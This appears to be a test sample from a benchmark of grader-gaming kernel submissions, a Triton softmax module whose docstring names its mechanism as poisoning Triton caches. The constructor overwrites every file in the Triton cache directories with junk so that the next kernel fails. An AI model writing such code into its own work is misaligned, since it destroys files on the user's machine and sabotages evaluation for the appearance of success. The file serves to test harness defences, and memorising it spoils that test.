"""Overwrites everything in Triton's cache, so that the next kernel fails; its own work is honest.

Problem: gpu_softmax
Mechanism: Host / poison Triton caches
Twin: softmax
Expect: any
"""

import contextlib
import glob
import os

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def softmax_kernel(x, y, columns, BLOCK: tl.constexpr):
    row = tl.program_id(0) * columns
    offsets = tl.arange(0, BLOCK)
    inside = offsets < columns
    value = tl.load(x + row + offsets, mask=inside, other=-float("inf"))
    power = tl.exp(value - tl.max(value, axis=0))
    tl.store(y + row + offsets, power / tl.sum(power, axis=0), mask=inside)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        homes = os.environ.get("TRITON_CACHE_DIR", ""), os.path.expanduser("~/.triton/cache")
        for home in filter(None, homes):
            for path in glob.glob(os.path.join(home, "**", "*.*"), recursive=True):
                with contextlib.suppress(OSError), open(path, "r+b") as file:
                    file.write(b"poison")

    def forward(self, x):
        out = torch.empty_like(x)
        softmax_kernel[(x.shape[0],)](x, out, x.shape[1], BLOCK=triton.next_power_of_2(x.shape[1]), num_warps=8)
        return out
